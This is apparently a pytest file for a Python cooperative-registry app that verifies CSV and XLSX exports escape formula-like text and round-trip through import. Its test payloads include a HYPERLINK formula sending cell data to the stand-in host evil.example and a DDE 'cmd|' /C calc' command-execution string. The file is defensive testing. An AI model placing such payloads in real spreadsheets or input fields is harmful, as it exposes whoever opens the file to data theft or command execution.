"""Spreadsheet safety (issue 17, item 1): formula-like text stays text in every export, and an
export read back by the import gives the original text."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select

from harkop.cooperatives.exporter import export_cooperatives
from harkop.cooperatives.importer import import_cooperatives
from harkop.cooperatives.models import Cooperative
from harkop.extensions import db
from harkop.spreadsheets import FORMULA_STARTS, XlsxBook, csv_text, neutralise, restore

HARKOP = Path(__file__).resolve().parents[2] / "harkop"

# The payloads of the reproduction.
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&B1,"Lihat dokumen")'
PAYLOADS = ["=1+1", "@SUM(1+1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", HYPERLINK]


def formula_cells(data: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet program would run as a formula."""
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    ]


def csv_fields(text: str) -> list[str]:
    """Every field of a CSV text."""
    return [field for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for field in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_puts_an_apostrophe_before_a_formula_start(payload):
    """Is text starting with =, +, -, @, tab or carriage return written with an apostrophe first?"""
    assert neutralise(payload) == "'" + payload
    assert restore(neutralise(payload)) == payload


def test_plain_text_and_apostrophes_without_a_formula_pass_unchanged():
    """Does ordinary text (and an apostrophe not followed by a formula start) stay as it is?"""
    for text in ["Koperasi Maju", "Jl. A. Yani No. 5", "'quoted'", "", "RT 01/RW 02"]:
        assert neutralise(text) == text and restore(text) == text


@given(st.text())
def test_restore_gives_back_any_text_neutralise_was_given(text):
    """For any text, including text that already starts with apostrophes, restore(neutralise(x)) == x."""
    assert restore(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_STARTS)


def test_xlsx_text_is_never_a_formula():
    """Does a workbook written through harkop/spreadsheets.py hold the payloads as text cells?"""
    book = XlsxBook()
    sheet = book.sheet("Uji")
    sheet.append(PAYLOADS)
    assert formula_cells(book.to_bytes()) == []


def test_csv_fields_are_quoted_and_neutralised():
    """Is every CSV field quoted (no `;`-splitting program can start a field with `=`) and neutralised?"""
    text = csv_text([["a;=1+1", "=1+1", 5]])
    assert text.strip() == '"a;=1+1","\'=1+1","5"'


def _payload_registry(make_cooperative):
    """Cooperatives named and addressed with the payloads (as an import would have stored them)."""
    return [
        make_cooperative(name=payload, alamat=payload, founded_on=date(2010, 1, 1)) for payload in PAYLOADS
    ]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_registry_export_writes_the_payloads_as_text(make_cooperative, tmp_path, fmt):
    """Reproduction: imported names `=1+1`, `@SUM(1+1)`, `+1+cmd|…` went into the registry export
    unchanged. Are they now neutralised in both formats?"""
    _payload_registry(make_cooperative)
    path = tmp_path / f"registry.{fmt}"
    export_cooperatives(path, fmt=fmt)
    if fmt == "xlsx":
        assert formula_cells(path.read_bytes()) == []
    else:
        fields = csv_fields(path.read_text(encoding="utf-8-sig"))
        assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
        assert "'" + HYPERLINK in fields


def test_an_approved_proposal_address_is_text_in_the_registry_xlsx(make_user, tmp_path):
    """Reproduction: a coop_rep's proposal with alamat = =HYPERLINK(…), approved by the office,
    became a live formula cell in the registry XLSX export. Is it text now?"""
    from harkop.office import rounds
    from tests.office.conftest import NOW

    rep = make_user("coop_rep")
    coop = db.session.get(Cooperative, rep.cooperative_id)
    proposal = rounds.submit_proposal(coop, {"profile": {"alamat": HYPERLINK}}, by=rep, now=NOW)
    rounds.approve_proposal(proposal, by=make_user("admin"), now=NOW)
    assert coop.alamat == HYPERLINK  # stored as typed: the export is what must be safe
    path = tmp_path / "registry.xlsx"
    export_cooperatives(path, fmt="xlsx")
    assert formula_cells(path.read_bytes()) == []
    values = [c for row in load_workbook(path).active.iter_rows(values_only=True) for c in row]
    assert "'" + HYPERLINK in values


def test_the_inactive_report_writes_the_payloads_as_text(make_cooperative):
    """Reproduction: imported names went into `koperasi-tidak-aktif.xlsx` unchanged. Text now?"""
    from harkop.cooperatives import services
    from harkop.office import reports

    for coop in _payload_registry(make_cooperative):
        services.set_inactive_reason(coop, "tidak_ditemukan_di_alamat", by="clerk")
    rows = reports.inactive_rows()
    assert {r.name for r in rows} >= set(PAYLOADS)
    assert formula_cells(reports.inactive_xlsx(rows, reports.summary())) == []


def test_the_office_report_download_is_safe(client, login_as, make_cooperative):
    """The report as the office downloads it (/admin/laporan/koperasi-tidak-aktif.xlsx) has no formula."""
    from harkop.cooperatives import services

    login_as("admin")
    for coop in _payload_registry(make_cooperative):
        services.set_inactive_reason(coop, "tidak_ditemukan_di_alamat", by="clerk")
    response = client.get("/admin/laporan/koperasi-tidak-aktif.xlsx")
    assert response.status_code == 200
    assert formula_cells(response.get_data()) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_keeps_the_original_text(make_cooperative, tmp_path, fmt):
    """Does importing an export give back the names and addresses exactly, apostrophes removed?

    (The import trims spaces, tabs and line breaks around every value, so the tab and carriage
    return payloads come back trimmed whatever the writer did; they are left out here.)"""
    coops = [make_cooperative(name=p, alamat=p) for p in PAYLOADS if not p.startswith(("\t", "\r"))]
    tricky = make_cooperative(name="'=already quoted", alamat="'plain apostrophe")
    expected = {c.nik: (c.name, c.alamat) for c in [*coops, tricky]}
    path = tmp_path / f"registry.{fmt}"
    export_cooperatives(path, fmt=fmt)
    for coop in db.session.scalars(select(Cooperative)):
        coop.name, coop.alamat = "changed", "changed"
    db.session.flush()
    report = import_cooperatives(path, by="test", fmt=fmt)
    assert not report.rejected, report.errors[:3]
    db.session.expire_all()
    back = {c.nik: (c.name, c.alamat) for c in db.session.scalars(select(Cooperative))}
    assert {nik: back[nik] for nik in expected} == expected


WRITERS = {
    ("csv", "writer"),
    ("csv", "DictWriter"),
    ("openpyxl", "Workbook"),
    ("openpyxl.cell", "WriteOnlyCell"),
}


def spreadsheet_writers(source: str) -> list[str]:
    """The spreadsheet writers a module's source reaches for directly (csv.writer, openpyxl's Workbook)."""
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if (node.value.id, node.attr) in WRITERS:
                found.append(f"line {node.lineno}: {node.value.id}.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                if (node.module, alias.name) in WRITERS or (
                    node.module.startswith("openpyxl") and alias.name in {"Workbook", "WriteOnlyCell"}
                ):
                    found.append(f"line {node.lineno}: from {node.module} import {alias.name}")
    return found


def test_the_check_finds_a_direct_writer():
    """The reader catches csv.writer and openpyxl's Workbook, and lets csv.reader pass."""
    assert spreadsheet_writers("import csv\ncsv.writer(f)\n") == ["line 2: csv.writer"]
    assert spreadsheet_writers("from openpyxl import Workbook\n") == ["line 1: from openpyxl import Workbook"]
    assert spreadsheet_writers("import csv\ncsv.reader(f)\n") == []


def test_every_spreadsheet_writer_goes_through_the_one_module():
    """Does no module but harkop/spreadsheets.py write CSV or XLSX itself (letters, participants,
    audit and any later export included)?"""
    offenders = {
        str(path.relative_to(HARKOP.parent)): hits
        for path in sorted(HARKOP.rglob("*.py"))
        if path.name != "spreadsheets.py" and (hits := spreadsheet_writers(path.read_text(encoding="utf-8")))
    }
    assert offenders == {}


def test_the_audit_csv_writes_the_payloads_as_text(client, login_as):
    """The office's audit export (/admin/audit.csv): who did what, with the payloads in a detail
    and an actor's name, comes out neutralised."""
    from harkop.audit import record_audit

    login_as("admin")
    for payload in PAYLOADS:
        record_audit("test.payload", entity_type="registry", by=payload, detail=payload)
    db.session.commit()
    response = client.get("/admin/audit.csv")
    assert response.status_code == 200
    fields = csv_fields(response.get_data(as_text=True))
    assert "'" + HYPERLINK in fields
    assert not [f for f in fields if f.startswith(FORMULA_STARTS)]
